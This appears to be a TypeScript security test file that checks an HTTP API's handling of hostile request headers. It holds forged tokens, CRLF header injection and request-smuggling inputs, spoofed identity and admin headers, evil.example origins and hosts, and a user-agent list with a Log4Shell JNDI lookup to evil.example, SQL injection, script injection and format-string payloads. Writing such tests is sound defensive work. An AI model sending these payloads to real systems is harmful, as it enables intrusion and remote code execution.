import type { Case, Row } from '../row.ts';
import { aTicket, CANARY, type World } from '../world.ts';
import { open } from './wrong.ts';

const me = (what: string, headers: Record<string, string>, answers: Case['answers']): Case => ({
  what,
  to: 'GET /v1/me',
  headers,
  answers,
});
const onWire = (one: Case): Case => ({ ...one, wire: true });

const openAs = (
  world: World,
  what: string,
  headers: Record<string, string>,
  answers: Case['answers'],
): Case => ({
  what,
  to: open,
  body: aTicket(world),
  headers,
  answers,
});

const media = [
  '-',
  'text/plain',
  'text/json',
  'multipart/form-data; boundary=x',
  'application/x-www-form-urlencoded',
  'application/json; charset=utf-16',
  'application/json; charset=gbk',
  'application/json;charset=utf-8;charset=utf-7',
  'application/jsonx',
  'application/xml',
  'application/merge-patch+json',
  'json',
  'application/json, text/plain',
];

/** The longest header that still fits, and what makes it too long. */
const padded = (bytes: number): Record<string, string> => ({ 'x-padding': 'x'.repeat(bytes) });
const many = (count: number): Record<string, string> =>
  Object.fromEntries(Array.from({ length: count }, (_, n) => [`x-h${n}`, 'v']));

const spoofed: Readonly<Record<string, string>> = {
  'x-forwarded-for': '127.0.0.1',
  'x-real-ip': '127.0.0.1',
  forwarded: 'for=127.0.0.1;host=evil.example',
  'x-tenant-id': 'other',
  'x-user-id': 'usr_01HZZZZZZZZZZZZZZZZZZZZZZZ',
  'x-role': 'admin',
  'x-amzn-oidc-identity': 'admin',
  'x-amzn-oidc-data': 'e30.e30.x',
  'x-apigateway-event': '{"requestContext":{"authorizer":{"jwt":{"claims":{"sub":"admin"}}}}}',
  'cloudfront-viewer-address': '127.0.0.1:1',
  'x-origin-secret': 'guess',
};

/** 3.3: headers. The set of forged tokens (H43) has a journey of its own. */
export const headerRows: readonly Row[] = [
  {
    id: 'H42',
    title: 'no good Authorization',
    cases: ({ tokens }) => {
      const good = tokens['agent1'] ?? '';
      return [
        { ...me('none', {}, '401'), as: null },
        ...[
          '',
          'Bearer',
          'Bearer ',
          'Basic YTpi',
          `Basic ${good}`,
          `bearer bearer ${good}`,
          `Bearer Bearer ${good}`,
          `Bearer\t${good}x`,
          `Token ${good}`,
          `Bearer "${good}"`,
        ].map((authorization) => me(authorization.slice(0, 14), { authorization }, '401')),
        onWire(
          me(
            'two of them',
            { authorization: `Bearer ${good}\r\nAuthorization: Bearer ${tokens['admin'] ?? ''}` },
            '401',
          ),
        ),
        onWire(me('a bad one first', { authorization: `Bearer x\r\nAuthorization: Bearer ${good}` }, '401')),
      ];
    },
  },
  {
    id: 'H44',
    title: 'bodies of another media type or character set',
    cases: (world) => [
      ...media.map((type) =>
        onWire(openAs(world, type, { 'content-type': type }, '415 unsupported_media_type')),
      ),
      openAs(world, 'as it should be', { 'content-type': 'Application/JSON; Charset="UTF-8"' }, '201'),
    ],
  },
  {
    id: 'H45',
    title: 'bodies that are packed',
    cases: (world) =>
      ['gzip', 'br', 'deflate', 'identity, gzip', 'x', 'gzip, gzip'].map((encoding) =>
        openAs(world, encoding, { 'content-encoding': encoding }, '415 unsupported_media_type'),
      ),
  },
  {
    id: 'H46',
    title: 'answers of another media type',
    cases: () => [
      ...[
        'text/html',
        'image/*',
        'text/*',
        'application/xml',
        'application/json;q=0',
        'application/xhtml+xml',
      ].map((accept) => me(accept, { accept }, '406 not_acceptable')),
      me('a browser’s', { accept: 'text/html,application/xhtml+xml,*/*;q=0.8' }, '200'),
    ],
  },
  {
    id: 'H47',
    title: 'headers that are too long, too many, or broken',
    cases: () => [
      me('10 kB and more', padded(10_241), '431'),
      onWire(me('a line that goes on', { 'x-a': 'b\r\n c' }, ['400', '200'])),
      onWire(me('a line without a colon', { 'x-a': 'b\r\nno colon here' }, '400')),
      onWire(me('a bare line feed', { 'x-a': 'b\nx-injected: 1' }, ['400', '200'])),
      onWire(me('a NUL', { 'x-a': 'b\u0000c' }, '400')),
      onWire(me('no ASCII', { 'x-a': 'ü好' }, '200')),
      onWire(me('200 of them', many(200), ['200', '431'])),
      onWire(me('3,000 of them', many(3000), '431')),
      onWire(me('a length and chunks', { 'transfer-encoding': 'chunked', 'content-length': '5' }, '400')),
      onWire(me('two lengths', { 'content-length': '0\r\ncontent-length: 5' }, '400')),
    ],
  },
  {
    id: 'H48',
    title: 'headers that say who calls and from where',
    cases: (world) => [
      ...Object.entries(spoofed).map(([name, value]) => ({
        ...me(name, { [name]: value }, '401'),
        as: null,
      })),
      {
        ...me('all of them with a token', { ...spoofed }, '200'),
        as: 'agent1',
        shows: { id: world.me.agent1, role: 'agent' },
      },
    ],
  },
  {
    id: 'H49',
    title: 'origins that may not read',
    cases: () =>
      [
        'null',
        'https://evil.example',
        'http://localhost.evil.example',
        'http://127.0.0.1.evil.example',
        'http://evil.example/?http://localhost',
        'https://desk.example.com.evil.example',
        'http://localhost@evil.example',
        'file://',
      ].map((origin) => ({
        ...me(origin, { origin }, '200'),
        never: 'access-control-allow',
      })),
  },
  {
    id: 'H50',
    title: 'versions that are none',
    cases: ({ ticket }) =>
      (
        [
          ['-', '428 precondition_required'],
          ['', '428 precondition_required'],
          ['*', '428 precondition_required'],
          ['W/"1"', '412 version_conflict'],
          ['"0"', '412 version_conflict'],
          ['"1", "2"', '412 version_conflict'],
          ['"1e0"', '412 version_conflict'],
          ['"abc"', '412 version_conflict'],
          ['"9007199254740993"', '412 version_conflict'],
          ['"-1"', '412 version_conflict'],
          [`"${'1'.repeat(300)}"`, '431 headers_too_large'],
          [`"${'1'.repeat(60_000)}"`, '431'],
        ] as const
      ).map(([version, answers]) => ({
        what: `If-Match ${version.slice(0, 20)}`,
        to: `PATCH /v1/tickets/${ticket.id}`,
        body: { subject: CANARY },
        headers: { 'if-match': version },
        answers,
      })),
  },
  {
    id: 'H51',
    title: 'names of requests and traces that are none of ours',
    cases: () => [
      ...['x-request-id', 'traceparent', 'x-amzn-trace-id', 'x-correlation-id'].flatMap((name) => [
        { ...me(`JSON as ${name}`, { [name]: `{"level":"fatal","${CANARY}":1}` }, '200'), never: CANARY },
        { ...me(`9 kB as ${name}`, { [name]: CANARY.repeat(900) }, ['200', '431']), never: CANARY },
      ]),
      onWire(me('a line break', { 'x-request-id': 'a\r\n\r\nGET /health HTTP/1.1' }, ['200', '400'])),
    ],
  },
  {
    id: 'H52',
    title: 'a host that is not ours',
    cases: (world) => [
      {
        ...onWire(openAs(world, 'a new case', { host: 'evil.example' }, '201')),
        never: 'evil.example',
      },
      {
        ...onWire(
          me('a forwarded host', { host: 'evil.example', 'x-forwarded-host': 'evil.example' }, '200'),
        ),
        never: 'evil.example',
      },
    ],
  },
  {
    id: 'H53',
    title: 'programs with hostile names',
    cases: () =>
      [
        '${jndi:ldap://evil.example/a}',
        '\u001B[31mred\u001B[0m',
        '","level":"fatal","x":"',
        "' OR 1=1 --",
        '<script>alert(1)</script>',
        '%s%s%s%n',
        'x'.repeat(5000),
      ].map((agent) => ({
        ...onWire(me(agent.slice(0, 20), { 'user-agent': agent }, ['200', '400'])),
        never: 'jndi',
      })),
  },
];
